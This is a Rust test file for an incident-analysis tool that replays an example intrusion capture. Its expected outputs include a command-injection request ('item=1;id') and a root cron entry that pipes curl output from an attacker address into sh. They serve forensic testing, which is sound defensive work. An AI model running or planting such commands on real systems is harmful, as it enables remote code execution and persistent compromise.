//! Views end to end, over the built-in example incident.
#![allow(clippy::unwrap_used)] // a failing test may panic

use std::path::Path;
use std::process::ExitCode;

use casebook_analyze::cli;

fn run(args: &[&str]) -> (ExitCode, Vec<u8>, String) {
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let code = cli::run(std::iter::once(&"casebook-analyze").chain(args), &mut out, &mut err);
    (code, out, String::from_utf8(err).unwrap())
}

fn example(folder: &Path) -> String {
    let path = folder.join("example.scap");
    std::fs::write(&path, casebook_fixtures::EXAMPLE).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn follow_shows_both_directions_of_a_connection() {
    let folder = tempfile::tempdir().unwrap();
    let capture = example(folder.path());
    let (code, out, err) = run(&["follow", "--pid", "2215", "--fd", "13", &capture]);
    assert_eq!(code, ExitCode::SUCCESS);
    let expected = "\
2026-03-02T09:00:10.218000000Z #73 apache2[2215] read from fd 13 203.0.113.66:51514->10.244.1.17:80: 33 bytes
< POST /cart.php?item=1;id HTTP/1.1
2026-03-02T09:00:10.220250000Z #82 apache2[2215] write to fd 13 203.0.113.66:51514->10.244.1.17:80: 35 bytes
> HTTP/1.1 200 OK
>\x20
> uid=33(www-data)
";
    assert_eq!(String::from_utf8(out).unwrap(), expected);
    assert_eq!(err, "casebook-analyze: 1 reads and 1 writes moved 68 bytes, of which 68 are recorded\n");
}

#[test]
fn follow_gives_raw_bytes_to_other_programs() {
    let folder = tempfile::tempdir().unwrap();
    let capture = example(folder.path());
    let (_, out, _) =
        run(&["follow", "--form", "raw", "--direction", "write", "--filter", "fd.name startswith /etc/", &capture]);
    assert_eq!(out, b"*/5 * * * * root curl -s http://203.0.113.66/k|sh\n");
    let (_, out, _) = run(&["follow", "--form", "hex", "--filter", "fd.name = /cmd", &capture]);
    let hex = "> 00000000  23 21 2f 62 69 6e 2f 73  68 0a                    |#!/bin/sh.|";
    assert!(String::from_utf8(out).unwrap().lines().any(|line| line == hex));
}

#[test]
fn follow_says_when_nothing_moved_and_what_is_wrong() {
    let folder = tempfile::tempdir().unwrap();
    let capture = example(folder.path());
    let (code, out, err) = run(&["follow", "--pid", "1", &capture]);
    assert_eq!((code, out.as_slice()), (ExitCode::SUCCESS, b"".as_slice()));
    assert!(err.contains("nothing was read or written"), "{err}");
    let (code, _, err) = run(&["follow", "--filter", "proc.nome = x", &capture]);
    assert_eq!(code, ExitCode::from(2));
    assert!(err.contains("--filter") && err.contains("proc.nome"), "{err}");
    let (code, _, err) = run(&["follow", "/nowhere.scap"]);
    assert_eq!(code, ExitCode::from(4), "{err}");
}

#[test]
fn spectrograms_say_that_exit_halves_have_no_latency() {
    let folder = tempfile::tempdir().unwrap();
    let capture = example(folder.path());
    let (code, out, _) = run(&["spectrogram", &capture]);
    assert_eq!(code, ExitCode::SUCCESS);
    let out = String::from_utf8(out).unwrap();
    assert!(out.contains("latency of 0 of ") && out.contains("exit halves only"), "{out}");
    let (_, out, _) = run(&["spectrogram", "--json", &capture]);
    let report: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(report["events"], 0);
    assert!(report["events_without_latency"].as_u64().unwrap() > 100);
}
